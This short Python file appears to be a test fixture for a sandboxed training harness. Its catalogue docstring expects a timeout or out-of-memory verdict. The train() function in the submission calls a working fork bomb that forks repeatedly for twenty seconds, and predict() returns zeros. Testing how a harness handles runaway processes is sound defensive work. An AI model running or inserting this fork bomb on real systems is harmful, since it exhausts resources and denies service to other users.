"""Fork in every child of every child; hundreds of forks take seconds to die.

catalogue: R1
verdict: timed_out | out_of_memory
wall: 3s
late: 6s
beside: honest
"""

import os
import time

import torch


def attack():
    until = time.monotonic() + 20
    while time.monotonic() < until:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)


def train(train_inputs, train_labels, *, seed):
    attack()


def predict(model, inputs):
    return torch.zeros(len(inputs))
